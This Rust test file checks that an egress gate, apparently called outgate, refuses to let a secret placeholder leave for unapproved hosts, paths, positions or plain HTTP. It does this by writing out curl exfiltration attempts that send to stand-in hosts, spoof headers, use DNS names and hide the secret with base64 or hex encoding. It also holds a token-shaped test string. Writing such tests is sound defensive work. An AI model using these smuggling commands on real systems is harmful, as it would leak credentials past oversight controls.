//! A placeholder anywhere but where its secret may go: refused in words that
//! name the secret, recorded as a finding, and no value in what leaves.

use outgate_harness::lab_tests;

use crate::stage::{Stage, assert_hidden};

/// Runs a script that must end in a denial which says why, and arrive nowhere.
fn denied(stage: &Stage<'_>, secrets: &[&str], script: &str, target: &str, words: &str) {
    let outcome = stage.run(secrets, script);
    let place = format!("{script}: {outcome}");
    assert!(outcome.stdout.contains("outgate"), "told: {place}");
    assert!(outcome.stdout.contains(words), "{words}: {place}");
    assert!(outcome.stdout.contains("secret KEY"), "named: {place}");
    assert_hidden(&outcome.stdout, script);
    assert_hidden(&outcome.stderr, script);
    let findings = stage.findings();
    let found = findings
        .iter()
        .any(|(to, why)| to == target && why.contains(words));
    assert!(found, "{place} {findings:?}");
    for request in stage.seen() {
        assert_hidden(&request, script);
        assert!(
            !request.contains("X-Arrived"),
            "arrived: {script} {request}"
        );
    }
}

const PLAIN: &str = "KEY=env:REAL@api.test";
const PATH: &str = "KEY=env:REAL@api.test/v1/**";
const PORT: &str = "KEY=env:REAL@api.test:8443";

lab_tests! {
    fn another_host_port_or_path_gets_nothing(lab) {
        let stage = Stage::new(lab);
        for (secret, url) in [
            (PLAIN, "https://other.test/x"),
            (PLAIN, "https://api.test:8443/x"),
            (PORT, "https://api.test/x"),
            (PATH, "https://api.test/v2/x"),
            (PATH, "https://api.test/v1/..%2fv2"),
            (PATH, "https://api.test/v1/%2e%2e%2fv2"),
            (PATH, "https://api.test//v1/x"),
        ] {
            let target = url.split('/').take(3).collect::<Vec<_>>().join("/");
            let script = format!(r#"curl -sS --path-as-is -H "X-Arrived: 1" -H "Authorization: $KEY" '{url}'"#);
            denied(&stage, &[secret], &script, &target, "the secret is for");
        }
    }

    fn a_request_without_tls_gets_nothing(lab) {
        let stage = Stage::new(lab);
        for form in [
            r#"-H "Authorization: $KEY" http://api.test/"#,
            r#"-u "a:$KEY" http://api.test/"#,
            r#""http://api.test/?k=$KEY""#,
            r#"-d "$KEY" http://api.test/"#,
        ] {
            let script = format!(r#"curl -sS -H "X-Arrived: 1" {form}"#);
            let secret = format!("{PLAIN};in=credentials,query,content");
            denied(&stage, &[&secret], &script, "http://api.test", "without TLS");
        }
    }

    fn positions_that_were_not_named_get_nothing(lab) {
        let stage = Stage::new(lab);
        for (places, form, words) in [
            ("", r#"-H "X-Note: $KEY" https://api.test/"#, "field `x-note`"),
            ("", r#""https://api.test/?k=$KEY""#, "the query"),
            ("", r#""https://api.test/$KEY""#, "the path"),
            ("", r#"-d "$KEY" https://api.test/"#, "the content"),
            ("", r#"-d "{\"a\":\"$(printf %s "$KEY" | base64 -w0)\"}" https://api.test/"#, "the content"),
            ("", r#"-d "{\"a\":\"$(printf x%s "$KEY" | base64 -w0)\"}" https://api.test/"#, "the content"),
            ("", r#"-d "{\"a\":\"$(printf xy%s "$KEY" | base64 -w0)\"}" https://api.test/"#, "the content"),
            ("", r#"-d "$(printf %s "$KEY" | xxd -p -c 200)" https://api.test/"#, "the content"),
            ("", r#"-T - https://api.test/ < <(head -c 400000 /dev/zero; printf %s "$KEY")"#, "the content"),
            (";in=query", r#"-H "Authorization: $KEY" https://api.test/"#, "field `authorization`"),
            (";in=query", r#""https://api.test/?k=$(printf %s "$KEY" | base64 -w0 | tr -d =)""#, "cannot be replaced"),
            (";in=content", r#"-d "$(printf %s "$KEY" | base64 -w0)" https://api.test/"#, "cannot be replaced"),
            (";in=content", r#"-i --data-binary @<(printf '\0\0\0\0%b%s' "\x$(printf %x ${#KEY})" "$KEY") -H "Content-Type: application/grpc" https://api.test/"#, "cannot be replaced"),
            (";in=fields", r#"-H "X-Note: $(printf %s "$KEY" | base64 -w0)" https://api.test/"#, "cannot be replaced"),
        ] {
            let secret = format!("{PLAIN}{places}");
            let script = format!(r#"curl -sS -H "X-Arrived: 1" {form}"#);
            if form.starts_with("-T -") {
                // The origin has the head by then; its content never ends.
                let outcome = stage.run(&[&secret], &script);
                assert!(!outcome.stdout.contains("ok"), "{outcome}");
                assert!(stage.findings().iter().any(|(_, why)| why.contains(words)), "{outcome}");
                assert_eq!(stage.seen(), Vec::<String>::new());
                continue;
            }
            denied(&stage, &[&secret], &script, "https://api.test", words);
        }
    }

    fn a_redirect_takes_no_secret_along(lab) {
        let stage = Stage::new(lab);
        // curl drops the field for another host by itself; here it is told not to.
        let script = r#"curl -sS -L --location-trusted -H "Authorization: $KEY" https://api.test/elsewhere"#;
        let outcome = stage.run(&[PLAIN], script);
        assert!(outcome.stdout.contains("the secret is for api.test only"), "{outcome}");
        let findings = stage.findings();
        assert_eq!(findings.len(), 1, "{findings:?}");
        let seen = stage.seen();
        assert_eq!(seen.len(), 1, "{seen:?}");
    }

    fn methods_and_heads_that_are_refused_are_findings_too(lab) {
        let stage = Stage::new(lab);
        for form in [
            r#"-X TRACE -H "Authorization: $KEY" https://api.test/"#,
            r#"-H "Host: evil.test" -H "Authorization: $KEY" https://api.test/"#,
            r#"-H "Host: $KEY.test" https://api.test/"#,
        ] {
            let script = format!("curl -sS {form}");
            let outcome = stage.run(&[PLAIN], &script);
            assert!(outcome.stdout.contains("outgate refused"), "{script}: {outcome}");
            let findings = stage.findings();
            assert!(findings.iter().any(|(_, why)| why.contains("secret KEY")), "{script} {findings:?}");
            assert_eq!(stage.seen(), Vec::<String>::new(), "{script}");
        }
    }

    fn a_name_that_holds_a_placeholder_is_not_resolved(lab) {
        let stage = Stage::new(lab);
        let script = r#"curl -sS "https://$KEY.other.test/"; curl -sS "https://a.${KEY^^}.test/""#;
        let outcome = stage.run(&["KEY=env:REAL_TOKEN@api.test"], script);
        assert_ne!(outcome.code, Some(0), "{outcome}");
        let findings = stage.findings();
        assert!(findings.len() >= 2, "{findings:?} {outcome}");
        assert!(findings.iter().all(|(_, why)| why.contains("secret KEY")), "{findings:?}");
        assert_eq!(stage.seen(), Vec::<String>::new());
    }

    fn a_host_that_no_rule_allows_gets_nothing_and_the_secret_is_named(lab) {
        let stage = Stage::new(lab);
        let sandbox = stage.bare(&[PLAIN]).allow("https://api.test");
        let script = r#"curl -sS -H "Authorization: $KEY" https://other.test/"#;
        let outcome = sandbox.run(&crate::stage::bash(script));
        assert!(outcome.stdout.contains("the secret is for api.test only"), "{outcome}");
        assert_eq!(stage.findings().len(), 1);
        assert_eq!(stage.seen(), Vec::<String>::new());
    }

    fn what_stands_beside_a_placeholder_is_looked_through(lab) {
        let stage = Stage::new(lab);
        let other = "OTHER=ghp_Zk3xQ8vN1mT5rW7yB2cD4fG6hJ9kLpSaUeXo";
        for value in ["REAL", "REAL_TOKEN"] {
            let secret = format!("KEY=env:{value}@api.test;in=credentials,fields");
            for form in [
                r#"-H "Authorization: Bearer $KEY $OTHER""#,
                r#"-H "Authorization: $OTHER,$KEY""#,
                r#"-u "$OTHER:$KEY""#,
                r#"-u "$KEY:$OTHER""#,
                r#"-H "X-Note: $KEY$OTHER$KEY""#,
                r#"-H "X-Note: $KEY $(printf %s $OTHER | base64 -w0)""#,
                r#"-H "X-Note: $KEY" -H "X-Note: $OTHER""#,
            ] {
                let script = format!("{other}; curl -sS {form} https://api.test/");
                let outcome = stage.run(&[&secret], &script);
                let place = format!("{script}: {outcome}");
                assert!(outcome.stdout.contains("outgate"), "told: {place}");
                assert!(outcome.stdout.contains("GitHub"), "{place}");
                assert_hidden(&outcome.stdout, &script);
                assert_eq!(stage.seen(), Vec::<String>::new(), "{place}");
                let record = std::fs::read_to_string(stage.audit()).expect("a record");
                std::fs::remove_file(stage.audit()).expect("a record");
                let mut lines = record.lines().filter(|line| line.contains("\"verdict\":\"deny\""));
                assert!(lines.any(|line| line.contains("\"detector\":\"github-")), "{place} {record}");
                assert_hidden(&record, &script);
            }
            // Its neighbour: the same without the other one.
            let script = r#"curl -sSf -u "user:$KEY" -H "X-Note: a $KEY b $KEY" https://api.test/"#;
            let outcome = stage.run(&[&secret], script);
            assert_eq!(outcome.code, Some(0), "{outcome}");
            assert_eq!(stage.findings(), []);
            assert_eq!(stage.seen().len(), 1);
        }
    }
}
